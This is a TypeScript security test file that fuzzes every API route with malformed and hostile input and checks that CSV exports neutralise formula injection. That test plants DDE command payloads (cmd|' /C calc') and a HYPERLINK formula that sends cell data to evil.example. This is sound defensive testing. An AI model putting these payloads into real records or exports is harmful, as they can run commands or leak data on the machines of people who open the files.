import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callApp, useTestApp, type CallResult } from '../helpers/test-app';
import { newUser, type TestUser } from '../helpers/factories';
import { HOSTILE_NUMBERS, HOSTILE_TEXT, junkScalar, mutatedBody, notJson, TEN_MB } from '../security/junk';
import { requestFor } from '../security/request';
import { fillPath, resolve, routesOfTheApp, withQuery, type RouteInfo } from '../security/routes';
import { sample } from '../security/sample';
import { objectFor, pathValues } from '../security/targets';
import { buildWorld, type World } from '../security/world';

/**
 * Bad input on every route of the app (as an admin, who gets furthest into each handler): malformed
 * and mistyped bodies, text that is not JSON, junk ids and query values. Never a 500; every 4xx in
 * the error shape. Runs are bounded (RUNS per route and kind) to keep the file well under a minute.
 */
const RUNS = Number(process.env.BAD_INPUT_RUNS ?? 5);
const SEED = Number(process.env.BAD_INPUT_SEED ?? 20261125);

const enumeration = await routesOfTheApp();
const WRITES = new Set(['POST', 'PUT', 'PATCH', 'DELETE']);
const withBody = enumeration.routes.filter((r) => WRITES.has(r.method));
const withPathParams = enumeration.routes.filter((r) => r.parameters.some((p) => p.in === 'path'));
const withQueryParams = enumeration.routes.filter((r) => r.parameters.some((p) => p.in === 'query'));

function assertSane(route: string, sent: string, res: CallResult) {
  const where = `${route} with ${sent.slice(0, 200)}`;
  expect(res.status, `${where} → ${res.status}: ${res.text.slice(0, 300)}`).toBeLessThan(500);
  if (res.status >= 400) {
    const e = res.body?.error;
    expect(e && typeof e.code === 'string' && typeof e.message === 'string' && Array.isArray(e.details),
      `${where} → ${res.status} without the error shape: ${res.text.slice(0, 300)}`).toBe(true);
  }
}

describe('bad input never causes a 500', () => {
  const t = useTestApp();
  let world: World;
  let admin: TestUser;
  beforeAll(async () => {
    world = await buildWorld(t.db);
  });

  /** a fresh admin per route, so a route that signs out or revokes tokens cannot disarm the next */
  const freshAdmin = async () => (admin = await newUser(t.db, 'admin'));
  const call = (route: RouteInfo, url: string, options: Parameters<typeof callApp>[3] = {}) =>
    callApp(t.app, route.method, url, { ...options, as: admin.headers });
  const params = { numRuns: RUNS, seed: SEED, endOnFailure: true };

  it.each(withBody.map((r) => [r.key, r] as const))('body of %s', async (_key, route) => {
    await freshAdmin();
    const { url, options } = requestFor(route, enumeration, world, world.B);
    const valid = (options.body && typeof options.body === 'object' && !Array.isArray(options.body) ? options.body : {}) as Record<string, unknown>;
    await fc.assert(fc.asyncProperty(mutatedBody(valid), async (body) => {
      assertSane(route.key, JSON.stringify(body) ?? 'undefined', await call(route, url, { body }));
    }), params);
    await fc.assert(fc.asyncProperty(notJson(), async (text) => {
      assertSane(route.key, text, await call(route, url, { raw: text, headers: { 'content-type': 'application/json' } }));
    }), params);
  });

  it.each(withPathParams.map((r) => [r.key, r] as const))('path ids of %s', async (_key, route) => {
    await freshAdmin();
    const good = pathValues(route.path, world.B, world);
    const names = Object.keys(good);
    await fc.assert(fc.asyncProperty(fc.constantFrom(...names), junkScalar(), async (name, junk) => {
      const { options } = requestFor(route, enumeration, world, world.B);
      const url = fillPath(route.path, { ...good, [name]: junk });
      assertSane(route.key, `${name}=${junk}`, await call(route, url, options));
    }), params);
  });

  it.each(withQueryParams.map((r) => [r.key, r] as const))('query of %s', async (_key, route) => {
    await freshAdmin();
    const path = fillPath(route.path, pathValues(route.path, world.B, world));
    const query = route.parameters.filter((p) => p.in === 'query');
    const base: Record<string, unknown> = {};
    for (const p of query) {
      const id = objectFor(p.name, world.B, world);
      if (id !== undefined) base[p.name] = id;
      else if (p.required) base[p.name] = sample(p.schema ?? {}, { doc: enumeration.doc, idFor: () => undefined }, p.name);
    }
    const { options } = requestFor(route, enumeration, world, world.B);
    const names = [...query.map((p) => p.name), 'unknownParam'];
    await fc.assert(fc.asyncProperty(fc.constantFrom(...names), junkScalar(), fc.boolean(), async (name, junk, repeat) => {
      let url = withQuery(path, { ...base, [name]: junk });
      if (repeat) url += `&${encodeURIComponent(name)}=${encodeURIComponent(junk)}`; // the same parameter twice
      assertSane(route.key, url, await call(route, url, options));
    }), params);
  });

  it('has routes to test', () => {
    expect(withBody.length).toBeGreaterThan(0);
    expect(withPathParams.length).toBeGreaterThan(0);
    expect(withQueryParams.length).toBeGreaterThan(0);
  });
});

/** Percent-encoding of any JS string, a lone surrogate included (as the bytes a careless client sends for it). */
function percentEncode(value: string): string {
  if (!/[\ud800-\udfff]/.test(value)) return encodeURIComponent(value);
  let out = '';
  for (const ch of value) {
    const c = ch.codePointAt(0)!;
    out += c >= 0xd800 && c <= 0xdfff
      ? [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 0x3f), 0x80 | (c & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('')
      : encodeURIComponent(ch);
  }
  return out;
}

/**
 * The sweep: every parameter and every top-level body field of every route (taken from the route list, so a
 * new route is swept without a line here), set in turn to each hostile value — NUL bytes, lone surrogates,
 * a 10 MB string, absurd dates and numbers — with the rest of the request valid. 0 answers ≥ 500.
 */
describe('every parameter and field with hostile values', () => {
  const t = useTestApp();
  let world: World;
  let admin: TestUser;
  const tally = { requests: 0, byStatus: new Map<number, number>() };
  beforeAll(async () => {
    world = await buildWorld(t.db);
  });
  afterAll(() => {
    console.log(`hostile sweep: ${tally.requests} requests over ${enumeration.routes.length} routes; statuses ${JSON.stringify(Object.fromEntries([...tally.byStatus].sort()))}`);
  });

  const show = (v: unknown) => (v === TEN_MB ? '<10 MB string>' : JSON.stringify(v));
  const bodyFields = (route: RouteInfo): string[] => {
    const schema = route.body?.['application/json'];
    return schema ? Object.keys(resolve(enumeration.doc, schema).properties ?? {}) : [];
  };

  it.each(enumeration.routes.map((r) => [r.key, r] as const))('%s', async (_key, route) => {
    admin = await newUser(t.db, 'admin');
    const failures: string[] = [];
    const send = async (what: string, url: string, options: Parameters<typeof callApp>[3]) => {
      const res = await callApp(t.app, route.method, url, { ...options, as: admin.headers });
      tally.requests++;
      tally.byStatus.set(res.status, (tally.byStatus.get(res.status) ?? 0) + 1);
      const e = res.body?.error;
      if (res.status >= 500) failures.push(`${what} → ${res.status}: ${res.text.slice(0, 200)}`);
      else if (res.status >= 400 && !(e && typeof e.code === 'string' && typeof e.message === 'string' && Array.isArray(e.details))) {
        failures.push(`${what} → ${res.status} without the error shape: ${res.text.slice(0, 200)}`);
      }
    };
    const good = pathValues(route.path, world.B, world);
    const { url, options } = requestFor(route, enumeration, world, world.B);
    const target = new URL(url, 'http://x');
    for (const name of Object.keys(good)) {
      for (const value of HOSTILE_TEXT) {
        const path = route.path.replace(/\{(\w+)\}/g, (_, n: string) => percentEncode(String(n === name ? value : good[n])));
        await send(`path ${name}=${show(value)}`, `${path}${target.search}`, options);
      }
    }
    for (const p of route.parameters.filter((x) => x.in === 'query')) {
      for (const value of HOSTILE_TEXT) {
        const others = [...target.searchParams].filter(([k]) => k !== p.name).map(([k, v]) => `${percentEncode(k)}=${percentEncode(v)}`);
        await send(`query ${p.name}=${show(value)}`, `${target.pathname}?${[...others, `${percentEncode(p.name)}=${percentEncode(value)}`].join('&')}`, options);
      }
    }
    const valid = options.body && typeof options.body === 'object' ? options.body as Record<string, unknown> : null;
    if (valid) {
      for (const field of bodyFields(route)) {
        for (const value of [...HOSTILE_TEXT, ...HOSTILE_NUMBERS, [HOSTILE_TEXT[1]]]) {
          await send(`body ${field}=${show(value)}`, url, { body: { ...valid, [field]: value } });
        }
      }
    }
    expect(failures, `${route.key}:\n${failures.join('\n')}`).toEqual([]);
  });
});

describe('CSV exports neutralise formula injection', () => {
  const t = useTestApp();
  const EVIL = {
    shipper: "=cmd|' /C calc'!A0",
    consignee: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    contract: '+cmd|\' /C notepad\'!A0',
    department: '-2+3+cmd|\' /C calc\'!A0',
    origin: '=HYPERLINK("http://evil.example/?"&A1)',
  };
  const exports = enumeration.routes.filter((r) => r.method === 'GET' && r.produces.includes('text/csv'));

  it('every export that names things writes the names as text, never as formulas', async () => {
    const world = await buildWorld(t.db);
    const B = world.B;
    await t.db.updateTable('companies').set({ name: EVIL.shipper }).where('id', '=', B.shipper.id).execute();
    await t.db.updateTable('companies').set({ name: EVIL.consignee }).where('id', '=', B.consignee.id).execute();
    await t.db.updateTable('contracts').set({ name: EVIL.contract }).where('id', '=', B.contract.id).execute();
    await t.db.updateTable('departments').set({ name: EVIL.department }).where('id', '=', B.department.id).execute();
    await sql`update deliveries set origin = ${EVIL.origin}, destination = ${EVIL.origin} where shipper_id = ${B.shipper.id}`.execute(t.db);
    // an import job whose rejected rows carry a formula in the value column
    await t.db.insertInto('import_row_errors').values({ shipper_id: B.shipper.id, job_id: world.importJob.id, line: 2, column_name: 'consignee_name', value: EVIL.shipper, message: 'test' }).execute();

    expect(exports.length, 'the app has CSV exports').toBeGreaterThan(0);
    const withEvil: string[] = [];
    for (const route of exports) {
      const formatParam = route.parameters.find((p) => p.in === 'query' && p.name === 'format');
      const groupBy = route.parameters.find((p) => p.in === 'query' && p.name === 'groupBy')?.schema?.enum as string[] | undefined;
      for (const group of groupBy ?? [undefined]) {
        const { url, options } = requestFor(route, enumeration, world, B);
        const target = new URL(url, 'http://x');
        if (formatParam) target.searchParams.set('format', 'csv');
        if (group) target.searchParams.set('groupBy', group);
        target.searchParams.set('from', '2026-01-01');
        target.searchParams.set('to', '2026-12-31');
        const res = await callApp(t.app, 'GET', `${target.pathname}${target.search}`, { ...options, as: world.admin.headers });
        const label = `${route.key}${group ? ` groupBy=${group}` : ''}`;
        if (res.status === 400 && /from|to/.test(res.text)) continue; // the export takes no date range
        expect(res.status, `${label}: ${res.text.slice(0, 200)}`).toBe(200);
        expect(res.headers.get('content-type'), label).toMatch(/text\/csv/);
        const cells: string[] = parse(res.text.replace(/^\uFEFF/, ''), { relax_column_count: true }).flat();
        const formulas = cells.filter((c) => /^[=@\t\r]/.test(c) || /^[+-](?!\d+(\.\d+)?(e[+-]?\d+)?$)/i.test(c));
        expect(formulas, `${label} has cells a spreadsheet would run`).toEqual([]);
        if (cells.some((c) => c.includes('cmd|') || c.includes('HYPERLINK'))) {
          withEvil.push(label);
          for (const c of cells.filter((x) => x.includes('cmd|') || x.includes('HYPERLINK'))) expect(c, label).toMatch(/^'[=@+-]/);
        }
      }
    }
    console.log(`CSV exports checked: ${exports.map((r) => r.key).join(', ')}; with the planted names: ${withEvil.join(', ')}`);
    // the value ranking and the import error report both list names/values: they must carry the planted ones
    expect(withEvil.length, 'at least one export includes the planted names').toBeGreaterThan(0);
  });
});
